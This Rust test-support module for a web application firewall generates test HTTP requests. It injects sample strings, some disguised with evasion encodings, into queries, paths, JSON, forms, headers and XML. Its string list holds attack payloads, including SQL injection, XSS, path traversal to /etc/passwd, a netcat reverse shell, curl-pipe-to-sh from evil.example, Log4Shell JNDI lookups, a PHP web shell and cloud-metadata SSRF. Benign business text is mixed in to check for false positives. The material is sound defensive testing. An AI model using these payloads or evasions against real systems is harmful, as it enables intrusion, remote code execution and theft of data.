//! Requests: those of our own tests, and others made of attacks, disguises and places by chance.

use std::collections::BTreeMap;
use std::fmt::Write;
use std::net::{IpAddr, Ipv4Addr};

use serde::Deserialize;
use waf::Request;

/// A request that owns its parts.
#[derive(Debug)]
pub struct Made {
    pub name: String,
    method: String,
    target: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Made {
    /// Shows the request.
    pub fn show<T>(&self, to: impl FnOnce(&Request<'_>) -> T) -> T {
        let headers: Vec<(&str, &[u8])> =
            self.headers.iter().map(|(name, value)| (name.as_str(), value.as_bytes())).collect();
        to(&Request {
            method: &self.method,
            target: &self.target,
            protocol: "HTTP/1.1",
            headers: &headers,
            body: &self.body,
            peer: IpAddr::V4(Ipv4Addr::new(192, 0, 2, 1)),
        })
    }

    fn new(
        name: String,
        method: &str,
        target: String,
        headers: Vec<(String, String)>,
        body: Vec<u8>,
    ) -> Self {
        let mut all = vec![("host".to_owned(), "gateway.example".to_owned())];
        all.extend([("user-agent", "client/1.0"), ("accept", "*/*")].map(owned));
        all.extend(headers);
        if !body.is_empty() {
            all.push(("content-length".to_owned(), body.len().to_string()));
        }
        Self { name, method: method.to_owned(), target, headers: all, body }
    }
}

fn owned((name, value): (&str, &str)) -> (String, String) {
    (name.to_owned(), value.to_owned())
}

#[derive(Deserialize)]
struct Line {
    id: String,
    method: String,
    path: String,
    #[serde(default)]
    headers: BTreeMap<String, String>,
    body: Option<String>,
}

/// The requests that our rules are tested with.
pub fn of_our_tests() -> Vec<Made> {
    let lines = include_str!("../../../../policies/waf/tests/requests.jsonl").lines();
    let lines = lines.map(|line| serde_json::from_str::<Line>(line).unwrap());
    lines
        .map(|Line { id, method, path, headers, body }| {
            Made::new(id, &method, path, headers.into_iter().collect(), body.unwrap_or_default().into_bytes())
        })
        .collect()
}

/// So many requests, the same in every run.
pub fn by_chance(requests: usize) -> Vec<Made> {
    let mut chance = Chance(0x9e37_79b9_7f4a_7c15);
    (0..requests).map(|number| made(number, &mut chance)).collect()
}

/// Numbers that look like chance (xorshift64).
struct Chance(u64);

impl Chance {
    fn below(&mut self, end: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % u64::try_from(end).unwrap()).unwrap()
    }

    fn of<T: Copy>(&mut self, all: &[T]) -> T {
        *all.get(self.below(all.len())).unwrap()
    }
}

fn made(number: usize, chance: &mut Chance) -> Made {
    let mut text = chance.of(TEXTS).to_owned();
    if chance.below(3) == 0 {
        text = format!("{} {text}", chance.of(TEXTS));
    }
    for _ in 0..chance.below(3) {
        text = chance.of(DISGUISES)(&text);
    }
    placed(&text, number, chance)
}

/// The text at a place of a request.
fn placed(text: &str, number: usize, chance: &mut Chance) -> Made {
    let name = |place: &str| format!("{place} {number}");
    let json = || vec![owned(("content-type", "application/json"))];
    let form = || vec![owned(("content-type", "application/x-www-form-urlencoded"))];
    let path = || "/v1/payments".to_owned();
    let escaped = escaped(text);
    match chance.below(9) {
        0 => Made::new(name("query"), "GET", format!("/v1/accounts?a={escaped}&b=1"), vec![], vec![]),
        1 => Made::new(name("query name"), "GET", format!("/v1/accounts?{escaped}=1"), vec![], vec![]),
        2 => Made::new(name("path"), "GET", format!("/v1/accounts/{escaped}/balances"), vec![], vec![]),
        3 => {
            let body = serde_json::json!({ "amount": "1.00", "creditor": { "name": [text, 1, true, null] } });
            Made::new(name("json"), "POST", path(), json(), body.to_string().into_bytes())
        }
        4 => {
            let body = serde_json::json!({ text: { "a": text } });
            Made::new(name("json name"), "POST", path(), json(), body.to_string().into_bytes())
        }
        5 => Made::new(name("form"), "POST", path(), form(), format!("a={escaped}&b=2").into_bytes()),
        6 => {
            let body =
                format!("--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{text}\r\n--xyz--\r\n");
            let headers = vec![owned(("content-type", "multipart/form-data; boundary=xyz"))];
            Made::new(name("multipart"), "POST", path(), headers, body.into_bytes())
        }
        7 => {
            let value: String = text.chars().filter(|it| !it.is_control()).collect();
            let header = chance.of(&["cookie", "referer", "user-agent", "x-request-id", "x-forwarded-for"]);
            let value = if header == "cookie" { format!("a=1; b={value}") } else { value };
            let mut made = Made::new(name(header), "GET", "/v1/accounts".to_owned(), vec![], vec![]);
            made.headers.retain(|(known, _)| known != header);
            made.headers.push((header.to_owned(), value.trim().to_owned()));
            made
        }
        _ => {
            let text: String = text.chars().filter(|it| !it.is_control()).collect();
            let text = text.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;");
            let body = format!("<?xml version=\"1.0\"?><a b=\"{text}\"><c>{text}</c></a>");
            let headers = vec![owned(("content-type", "application/xml"))];
            Made::new(name("xml"), "POST", path(), headers, body.into_bytes())
        }
    }
}

/// What attackers do so that a text is not seen for what it is.
const DISGUISES: &[fn(&str) -> String] = &[
    str::to_uppercase,
    escaped,
    |text| text.replace(' ', "/**/"),
    |text| text.replace(' ', "\t\n "),
    |text| each(text, |it| format!("&#{};", u32::from(it))),
    |text| each(text, |it| format!("%u{:04x}", u32::from(it))),
    |text| each(text, |it| format!("\\x{:02x}", u32::from(it))),
    |text| each(text, |it| format!("\\u{:04x}", u32::from(it))),
    |text| text.replace('\'', "\u{ff07}").replace('<', "\u{ff1c}"),
    |text| text.replace('/', "/./"),
    |text| text.replace('e', "e\0"),
    |text| text.replace('c', "c^").replace('t', "t\"\""),
    |text| format!("x'{text}--"),
    |text| text.replace(' ', "+"),
];

/// Every other character in another spelling.
fn each(text: &str, spelt: impl Fn(char) -> String) -> String {
    let ascii =
        |(at, it): (usize, char)| if at % 2 == 0 && it.is_ascii() { spelt(it) } else { it.to_string() };
    text.chars().enumerate().map(ascii).collect()
}

fn escaped(text: &str) -> String {
    text.bytes().fold(String::new(), |mut all, byte| {
        if byte.is_ascii_alphanumeric() || b"-._~".contains(&byte) {
            all.push(char::from(byte));
        } else {
            write!(all, "%{byte:02X}").unwrap();
        }
        all
    })
}

/// Attacks, what looks like one, and what does not.
const TEXTS: &[&str] = &[
    "1 union all select user, password from users--",
    "' or '1'='1",
    "1; drop table accounts",
    "admin'--",
    "1 and sleep(5)#",
    "'; exec xp_cmdshell('dir')--",
    "select * from information_schema.tables",
    "1 order by 10--",
    "benchmark(1000000,md5(1))",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "<svg/onload=confirm(1)>",
    "\"><iframe src=//evil.example>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "/proc/self/environ",
    ".git/config",
    "; cat /etc/passwd",
    "| nc -e /bin/sh 192.0.2.9 4444",
    "$(curl http://evil.example/x.sh|sh)",
    "`id`",
    "& ping -n 10 127.0.0.1",
    "() { :;}; /bin/bash -c id",
    "powershell -enc SQBFAFgA",
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://x}",
    "{{7*7}}",
    "<%= 7*7 %>",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "java.lang.ProcessBuilder",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    "<?php system($_GET['a']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "phpinfo()",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:8080/admin",
    "file:///etc/hosts",
    "gopher://127.0.0.1:6379/_INFO",
    "require('child_process').exec('id')",
    "process.mainModule.require",
    "__proto__[admin]=1",
    "constructor.prototype.admin",
    "{\"$ne\":null}",
    "$where: this.a == 1",
    "*)(uid=*))(|(uid=*",
    "a\r\nSet-Cookie: a=b",
    "HTTP/1.1 200 OK\r\n\r\n<html>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
    "%00",
    "%c0%ae%c0%ae/",
    "sqlmap/1.7",
    "O'Brien & Sons",
    "Invoice 2026-0815, see attachment; thanks",
    "Rent (flat 3) - March/April",
    "Select the best offer from our table",
    "Müller-Lüdenscheidt GmbH",
    "50% off & more",
    "a=b;c=d",
    "=HYPERLINK(\"http://x\")",
    "2026-01-01T00:00:00Z",
    "DE89370400440532013000",
    "...",
    "",
    "\u{202e}evil",
];
